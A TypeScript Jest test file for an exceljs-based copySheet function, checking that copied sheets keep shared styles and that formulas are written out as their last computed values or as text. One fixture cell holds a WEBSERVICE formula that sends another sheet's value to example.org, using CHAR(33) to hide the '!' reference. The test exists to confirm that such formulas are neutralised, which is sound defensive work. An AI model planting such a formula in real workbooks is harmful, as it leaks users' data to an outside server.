import ExcelJS from "exceljs";
import { copySheet } from "../../src/workbook/xlsx/copy-sheet";

/** A loaded workbook: exceljs shares one style object among the cells of each style it reads. */
async function loaded(): Promise<ExcelJS.Worksheet> {
  const wb = new ExcelJS.Workbook();
  const ws = wb.addWorksheet("Тайлан");
  ws.getCell("A1").value = "Гарчиг";
  ws.getCell("A1").font = { bold: true, size: 14 };
  for (const address of ["A2", "B2", "C2"]) {
    ws.getCell(address).value = 1;
    ws.getCell(address).border = { top: { style: "thin" } };
  }
  ws.getCell("A3").value = "нүдний загваргүй";
  const again = new ExcelJS.Workbook();
  await again.xlsx.load((await wb.xlsx.writeBuffer()) as ExcelJS.Buffer);
  return again.getWorksheet("Тайлан") as ExcelJS.Worksheet;
}

describe("copySheet", () => {
  it("gives the cells the source's styles, one copy per style the source shares", async () => {
    const source = await loaded();
    const copy = copySheet(source, new ExcelJS.Workbook(), "Хуулбар");
    for (const address of ["A1", "A2", "B2", "C2", "A3"]) {
      expect(copy.getCell(address).value).toEqual(source.getCell(address).value);
      expect(copy.getCell(address).style).toEqual(source.getCell(address).style);
    }
    expect(copy.getCell("B2").style).toBe(copy.getCell("A2").style);
    expect(copy.getCell("C2").style).toBe(copy.getCell("A2").style);
  });

  it("leaves the source's styles as they were, open to change", async () => {
    const source = await loaded();
    copySheet(source, new ExcelJS.Workbook(), "Хуулбар");
    const style = source.getCell("A1").style;
    expect(Object.isFrozen(style) || Object.isFrozen(style.font)).toBe(false);
    source.getCell("A1").font = { italic: true };
    expect(source.getCell("A1").font).toEqual({ italic: true });
  });
});

describe("copySheet and formulas", () => {
  /** A sheet whose formulas were saved by Excel with their values, loaded as a file is. */
  async function withFormulas(): Promise<ExcelJS.Worksheet> {
    const wb = new ExcelJS.Workbook();
    const ws = wb.addWorksheet("Тайлан");
    ws.getCell("A1").value = 4;
    ws.getCell("B1").value = 6;
    ws.getCell("C1").value = { formula: "A1+B1", result: 10 };
    // Reaches the consolidation's sheet without a "!" and sends what it reads away.
    ws.getCell("D1").value = {
      formula: 'WEBSERVICE("http://example.org/?"&ENCODEURL(INDIRECT("Нэгтгэл"&CHAR(33)&"B5")))',
      result: "хариу",
    };
    ws.getCell("E1").value = { formula: 'INDIRECT("_guitsetgel"&CHAR(33)&"A1")' };
    ws.getCell("F1").value = { formula: "Нэгтгэл!B5", result: 85.7 };
    const again = new ExcelJS.Workbook();
    await again.xlsx.load((await wb.xlsx.writeBuffer()) as ExcelJS.Buffer);
    return again.getWorksheet("Тайлан") as ExcelJS.Worksheet;
  }

  it("writes every formula as the value it last computed, whatever it holds", async () => {
    const copy = copySheet(await withFormulas(), new ExcelJS.Workbook(), "Хуулбар");
    expect(copy.getCell("C1").value).toBe(10);
    expect(copy.getCell("D1").value).toBe("хариу");
    expect(copy.getCell("F1").value).toBe(85.7);
  });

  it("writes a formula that never computed a value as its text", async () => {
    const copy = copySheet(await withFormulas(), new ExcelJS.Workbook(), "Хуулбар");
    expect(copy.getCell("E1").value).toBe('=INDIRECT("_guitsetgel"&CHAR(33)&"A1")');
    expect(copy.getCell("E1").type).toBe(ExcelJS.ValueType.String);
  });
});
